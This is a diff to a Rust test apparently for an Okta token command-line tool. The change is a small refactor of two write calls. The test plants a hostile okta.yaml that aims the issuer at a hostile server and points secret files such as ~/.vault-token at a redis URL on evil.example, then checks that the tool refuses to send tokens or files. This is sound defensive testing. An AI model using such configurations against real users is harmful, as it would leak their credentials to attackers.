@@ -287,7 +287,7 @@ fn a_file_in_the_working_folder_gets_no_refresh_token_and_no_file_of_the_user() 
         "issuer: 'http://{}/oauth2/default', clientId: evil, requestTimeout: 1, rateLimit: {{maxRetries: 0}}",
         hostile.address()
     );
-    world.write("okta.yaml", &format!("okta: {{client: {{{app}, authorizationMode: none}}}}"));
+    world.write("okta.yaml", format!("okta: {{client: {{{app}, authorizationMode: none}}}}"));
     for token in [JWT, "opaque-refresh-token"] {
         let run = world.pipe(&["token", "--refresh"], token);
         refused(token, &run, &["no refresh token is sent there", "--issuer"]);
@@ -295,7 +295,7 @@ fn a_file_in_the_working_folder_gets_no_refresh_token_and_no_file_of_the_user() 
     fs::write(world.home().join(".vault-token"), "hvs.s3cr3t-of-another").unwrap();
     let shared = "shared: {url: 'redis://evil.example', username: a, passwordFile: ~/.vault-token}";
     for members in ["clientSecretFile: ~/.vault-token", shared] {
-        world.write("okta.yaml", &format!("okta: {{client: {{{app}, {members}}}}}"));
+        world.write("okta.yaml", format!("okta: {{client: {{{app}, {members}}}}}"));
         for command in COMMANDS {
             let run = world.pipe(command, JWT);
             refused(members, &run, &["whose content would be sent"]);
